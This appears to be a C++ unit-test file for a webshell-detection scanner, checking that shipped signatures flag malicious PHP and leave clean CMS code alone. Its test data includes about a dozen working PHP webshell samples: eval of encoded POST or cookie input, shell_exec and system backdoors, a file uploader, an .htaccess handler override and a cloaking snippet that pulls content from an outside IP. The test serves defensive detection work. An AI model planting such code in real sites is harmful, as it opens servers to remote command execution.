#include "agent/integrity/signature_set.h"

#include <string>
#include <vector>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/testing/status_matchers.h"

namespace pantau::agent::integrity {
namespace {

using ::pantau::testing::StatusIs;
using ::testing::HasSubstr;

const char* const kShipped = PANTAU_SOURCE_DIR "/data/integrity/signatures.yaml";

// What the scanner raises for `text` in a file named `name`: the highest severity among the
// strong signatures, WARNING for kWeakHitsForWarning weak ones, else unspecified.
v1::Finding::Severity Verdict(const SignatureSet& sigs, const std::string& name,
                              const std::string& text, std::vector<std::string>* ids = nullptr) {
  std::vector<SignatureHit> hits;
  sigs.Match(SignatureSet::KeyForFileName(name), {text}, &hits);
  v1::Finding::Severity severity = v1::Finding::SEVERITY_UNSPECIFIED;
  int weak = 0;
  for (const SignatureHit& hit : hits) {
    const Signature& sig = sigs.signatures()[hit.index];
    if (ids != nullptr) ids->push_back(sig.id);
    if (sig.severity == v1::Finding::INFO) {
      ++weak;
    } else if (sig.severity > severity) {
      severity = sig.severity;
    }
  }
  int warnings = 0;
  for (const SignatureHit& hit : hits) {
    warnings += sigs.signatures()[hit.index].severity == v1::Finding::WARNING;
  }
  if (severity == v1::Finding::WARNING && warnings >= kWarningHitsForCritical) {
    severity = v1::Finding::CRITICAL;
  }
  if (severity == v1::Finding::SEVERITY_UNSPECIFIED && weak >= kWeakHitsForWarning) {
    severity = v1::Finding::WARNING;
  }
  return severity;
}

TEST(IntegritySignatures, ShippedFileLoadsWithItsExamples) {
  auto sigs = SignatureSet::Load(kShipped);
  ASSERT_OK(sigs);
  EXPECT_GE((*sigs)->signatures().size(), 30u);
}

TEST(IntegritySignatures, RealWorldStyleWebshellsAreCritical) {
  ASSERT_OK_AND_ASSIGN(auto sigs, SignatureSet::Load(kShipped));
  const std::vector<std::pair<std::string, std::string>> shells = {
      {"x.php", "<?php @eval(base64_decode($_POST['x'])); ?>"},
      {"cache.php",
       "<?php /* cache */ eval(gzinflate(str_rot13(base64_decode('vUl6Dt8aEP8vbtqh')))); ?>"},
      {"a.php", "<?php $_GET['f']($_GET['c']); ?>"},
      {"wp-conf.php",
       "<?php\nerror_reporting(0);\n$k = $_REQUEST['k'];\nif (isset($_POST['cmd'])) {\n"
       "  echo '<pre>' . shell_exec($_POST['cmd']) . '</pre>';\n}\n"},
      {"x.phtml", "<?php $b = 'sys'.'tem'; $b($_GET['c']);"},
      {"up.php",
       "<?php error_reporting(0); echo getcwd();\necho '<form method=post "
       "enctype=multipart/form-data><input type=file name=f><input type=submit></form>';\n"
       "if (@copy($_FILES['f']['tmp_name'], $_FILES['f']['name'])) { echo 'ok'; }"},
      {"x.php", "<?php $x=\"\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65\";"
                "@eval($x($_COOKIE['z']));"},
      {"seo.php",
       "<?php $ua = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($ua, 'googlebot') "
       "!== false) {\n  echo file_get_contents('http://203.0.113.5/slot/' . $_SERVER['HTTP_HOST']);"
       "\n  exit;\n}\n"},
      {"logo.gif", "GIF89a\x01\x02\x01\x02<?php system($_REQUEST['c']); ?>"},
      {".htaccess", "<FilesMatch \"\\.(jpg|gif)$\">\n  SetHandler application/x-httpd-php\n"
                    "</FilesMatch>\n"},
      {"idx.php", "<?php\n/* IndoXploit */\n$x = 1;"},
      {"r.php", "<?php preg_replace('/.*/e', $_REQUEST['e'], 'x');"},
  };
  for (const auto& [name, text] : shells) {
    std::vector<std::string> ids;
    EXPECT_EQ(Verdict(*sigs, name, text, &ids), v1::Finding::CRITICAL)
        << name << ": " << text << "\nhits: " << ::testing::PrintToString(ids);
  }
}

TEST(IntegritySignatures, CleanCmsCodeRaisesNothing) {
  ASSERT_OK_AND_ASSIGN(auto sigs, SignatureSet::Load(kShipped));
  const std::vector<std::pair<std::string, std::string>> clean = {
      {"class-wp-avatar.php", R"php(<?php
/**
 * Avatar uploads for the profile screen.
 *
 * @package WordPress
 */
function pn_handle_avatar_upload( $file ) {
	$data = base64_decode( $_POST['avatar_data'], true );
	if ( false === $data ) {
		return new WP_Error( 'invalid_avatar', __( 'The avatar is not valid.' ) );
	}
	$upload_dir = wp_upload_dir();
	$filename   = wp_unique_filename( $upload_dir['path'], sanitize_file_name( $file['name'] ) );
	if ( ! move_uploaded_file( $file['tmp_name'], $upload_dir['path'] . '/' . $filename ) ) {
		return new WP_Error( 'move_failed', __( 'Could not save the file.' ) );
	}
	$title = preg_replace( '/\.[^.]+$/', '', wp_basename( $filename ) );
	return array( 'file' => $filename, 'title' => $title );
}
)php"},
      {"class-http-curl.php", R"php(<?php
class PN_Http_Curl {
	public function request( $url, $args = array() ) {
		$handle = curl_init();
		curl_setopt( $handle, CURLOPT_URL, $url );
		curl_setopt( $handle, CURLOPT_RETURNTRANSFER, true );
		curl_setopt( $handle, CURLOPT_TIMEOUT, (int) $args['timeout'] );
		$body = curl_exec( $handle );
		if ( curl_errno( $handle ) ) {
			return new WP_Error( 'http_request_failed', curl_error( $handle ) );
		}
		$headers = $this->parse_headers( $body );
		$body    = preg_replace( "/\r\n\r\n/", "\n\n", $body, 1 );
		curl_close( $handle );
		return array( 'headers' => $headers, 'body' => $body );
	}
}
)php"},
      {"helper.php", R"php(<?php
defined('_JEXEC') or die;
// Joomla-style helper: session tokens, templates and a cache.
class ModBeritaHelper
{
	public static function getToken($session)
	{
		$token = base64_encode(random_bytes(32));
		$session->set('token', $token);
		return $token;
	}
	public static function decodeState($state)
	{
		return json_decode(base64_decode($state), true);
	}
	public static function slug($title)
	{
		$slug = strtolower(trim(preg_replace('/[^A-Za-z0-9-]+/', '-', $title), '-'));
		return preg_replace('#-+#', '-', $slug);
	}
	public static function robots()
	{
		return array('googlebot' => 'index, follow', 'bingbot' => 'index');
	}
	public static function render($layout, $data)
	{
		$id = isset($_GET['id']) ? (int) $_GET['id'] : 0;
		ob_start();
		include JPATH_THEMES . '/berita/' . basename($layout) . '.php';
		return ob_get_clean();
	}
}
)php"},
      {"template.php", R"php(<?php
// A small template engine compiles templates to PHP and runs them.
$compiled = $this->compile(file_get_contents($path));
eval('?>' . $compiled);
$out = shell_exec('git rev-parse HEAD');
$bom = "\xEF\xBB\xBF";
)php"},
      {".htaccess", R"(# BEGIN WordPress
<IfModule mod_rewrite.c>
RewriteEngine On
RewriteBase /
RewriteRule ^index\.php$ - [L]
RewriteCond %{REQUEST_FILENAME} !-f
RewriteCond %{REQUEST_FILENAME} !-d
RewriteRule . /index.php [L]
</IfModule>
<FilesMatch "\.(jpg|jpeg|png|gif|ico)$">
Header set Cache-Control "max-age=2592000, public"
</FilesMatch>
AddType image/webp .webp
# END WordPress
)"},
      {"photo.jpg", std::string("\xFF\xD8\xFF\xE0\x00\x10JFIF\x00<?xpacket begin='x'?>", 30)},
  };
  for (const auto& [name, text] : clean) {
    std::vector<std::string> ids;
    EXPECT_EQ(Verdict(*sigs, name, text, &ids), v1::Finding::SEVERITY_UNSPECIFIED)
        << name << "\nhits: " << ::testing::PrintToString(ids);
  }
}

TEST(IntegritySignatures, EvidenceIsTheMatchedText) {
  ASSERT_OK_AND_ASSIGN(auto sigs, SignatureSet::Load(kShipped));
  std::vector<SignatureHit> hits;
  sigs->Match("php", {"<?php\n// x\n@eval(base64_decode($_POST['x']));"}, &hits);
  ASSERT_FALSE(hits.empty());
  bool found = false;
  for (const SignatureHit& hit : hits) {
    found = found || hit.evidence.find("eval(base64_decode(") != std::string::npos;
  }
  EXPECT_TRUE(found);
}

TEST(IntegritySignatures, SignaturesApplyOnlyToTheirExtensions) {
  ASSERT_OK_AND_ASSIGN(auto sigs, SignatureSet::Load(kShipped));
  std::vector<SignatureHit> hits;
  sigs->Match("txt", {"<?php @eval(base64_decode($_POST['x'])); ?>"}, &hits);
  EXPECT_TRUE(hits.empty());
  EXPECT_EQ(SignatureSet::KeyForFileName("Shell.PHP"), "php");
  EXPECT_EQ(SignatureSet::KeyForFileName(".htaccess"), ".htaccess");
  EXPECT_EQ(SignatureSet::KeyForFileName("README"), "");
}

TEST(IntegritySignatures, ErrorsNameFileAndLine) {
  EXPECT_THAT(SignatureSet::Parse("version: 1\nsignatures:\n  - id: a\n    description: d\n"
                                  "    severity: critical\n    applies_to: [php]\n"
                                  "    pattern: 'eval(('\n",
                                  "sigs.yaml"),
              StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("sigs.yaml:3")));
  EXPECT_THAT(SignatureSet::Parse("version: 1\nsignatures:\n  - id: a\n    description: d\n"
                                  "    severity: critical\n    applies_to: ['@nope']\n"
                                  "    pattern: 'x'\n",
                                  "sigs.yaml"),
              StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("unknown group")));
  EXPECT_THAT(SignatureSet::Parse("version: 1\nsignatures:\n  - id: ok\n    description: d\n"
                                  "    severity: warning\n    applies_to: [php]\n"
                                  "    pattern: 'x'\n  - id: b\n    description: d\n"
                                  "    severity: critical\n    applies_to: [php]\n"
                                  "    pattern: 'eval'\n    examples:\n      match: ['evil']\n",
                                  "sigs.yaml"),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("sigs.yaml:8: signature 'b': example does not match")));
  EXPECT_THAT(SignatureSet::Parse("version: 1\nsignatures:\n  - id: a\n    description: d\n"
                                  "    severity: fatal\n    applies_to: [php]\n    pattern: x\n",
                                  "s.yaml"),
              StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("s.yaml:3")));
  EXPECT_THAT(SignatureSet::Parse("version: 1\nsignatures:\n  - id: a\n    descriptoin: d\n",
                                  "s.yaml"),
              StatusIs(absl::StatusCode::kInvalidArgument));
  EXPECT_THAT(SignatureSet::Parse("version: [1\n", "s.yaml"),
              StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("s.yaml:")));
  EXPECT_THAT(SignatureSet::Load("/nonexistent/signatures.yaml"),
              StatusIs(absl::StatusCode::kNotFound));
}

}  // namespace
}  // namespace pantau::agent::integrity
